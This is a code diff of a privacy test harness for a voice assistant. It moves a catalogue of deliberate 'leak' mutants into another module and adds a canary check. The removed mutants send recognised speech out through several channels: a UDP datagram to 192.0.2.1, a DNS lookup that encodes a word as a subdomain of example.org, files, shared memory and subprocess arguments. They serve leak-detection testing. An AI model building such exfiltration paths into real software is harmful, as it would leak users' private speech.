@@ -2,21 +2,18 @@
 
     python -m privacy.household HOME PIPE [MUTANT]
 
-Prints READY, ANSWERED (the dialogue closed) and waits for a line on its input after each. Nobody's consent is given.
+Prints READY, HEARD (if it got the canary), ANSWERED (the dialogue closed); after the first and the last it waits for a
+line on its input. Nobody's consent is given.
 """
 
 from __future__ import annotations
 
 import asyncio
 import logging
-import mmap
 import os
-import socket
-import subprocess
 import sys
-from collections.abc import AsyncIterator, Callable
+from collections.abc import AsyncIterator
 from contextlib import asynccontextmanager
-from pathlib import Path
 from typing import Any
 
 import numpy as np
@@ -34,6 +31,8 @@ from assistant.hardening import harden
 from assistant.messages import dialog, intent, stt
 from assistant.runner import Runner
 from assistant.service import Service
+from privacy.leaks import KEPT, LEAKS
+from privacy.listening import CANARY
 
 
 class PipeSource:
@@ -69,85 +68,6 @@ class PipeSource:
         return
 
 
-Leak = Callable[[str], None]
-"""Called with the words that were recognised."""
-
-
-def _file(words: str) -> None:
-    Path("/var/tmp/privacy-leak.txt").write_text(words)
-
-
-def _unlinked(words: str) -> None:
-    path = Path("/var/tmp/privacy-leak-unlinked")
-    file = path.open("w")
-    path.unlink()
-    file.write(words)
-    file.flush()
-    KEPT.append(file)
-
-
-def _shm(words: str) -> None:
-    Path("/dev/shm/privacy-leak").write_bytes(words.encode())
-
-
-def _mapped(words: str) -> None:
-    path = Path("/var/tmp/privacy-leak-mapped")
-    path.write_bytes(bytes(4096))
-    with path.open("r+b") as file, mmap.mmap(file.fileno(), 4096) as area:
-        area[: len(words)] = words.encode()
-
-
-def _memfd(words: str) -> None:
-    fd = os.memfd_create("leak")
-    os.write(fd, words.encode())
-
-
-def _sent(words: str) -> None:
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
-        out.sendto(words.encode(), ("192.0.2.1", 9))
-
-
-def _looked_up(words: str) -> None:
-    try:
-        socket.getaddrinfo(f"{words.split()[0]}.example.org", 80)
-    except OSError:
-        return
-
-
-def _connected(words: str) -> None:
-    with socket.socket() as out:
-        out.setblocking(False)
-        out.connect_ex(("192.0.2.1", 443))
-
-
-def _started(words: str) -> None:
-    subprocess.run(["/bin/true", words], check=False)
-
-
-def _logged(words: str) -> None:
-    logging.getLogger("assistant.stt").debug("heard %s", words)
-
-
-def _kept(words: str) -> None:
-    KEPT.append(words.encode())
-
-
-KEPT: list[object] = []
-LEAKS: dict[str, Leak] = {
-    "writes the words to a file": _file,
-    "writes them to a file it has unlinked": _unlinked,
-    "puts them into shared memory": _shm,
-    "writes them through a mapping": _mapped,
-    "keeps them in a memory file": _memfd,
-    "sends them in a datagram": _sent,
-    "looks them up as a name": _looked_up,
-    "opens a connection": _connected,
-    "hands them to another program": _started,
-    "logs them": _logged,
-    "keeps the words in memory": _kept,
-}
-
-
 async def live(home: str, pipe: str, mutant: str) -> None:
     paths = find_paths({"HOME": home, "XDG_RUNTIME_DIR": f"{home}/run"})
     config = load_with_origins(paths, ["logs.level=debug", "intent.engines=[templates]"]).config
@@ -173,8 +93,11 @@ async def live(home: str, pipe: str, mutant: str) -> None:
     await _say("READY")
     async for envelope in inbox:
         message = envelope.message
-        if isinstance(message, stt.Transcript) and mutant in LEAKS:
-            LEAKS[mutant](message.text.text)
+        if isinstance(message, stt.Transcript):
+            if CANARY in message.text.text:
+                os.write(1, b"HEARD 1\n")
+            if mutant in LEAKS:
+                LEAKS[mutant](message.text.text)
         if isinstance(message, dialog.Closed):
             break
     inbox.close()
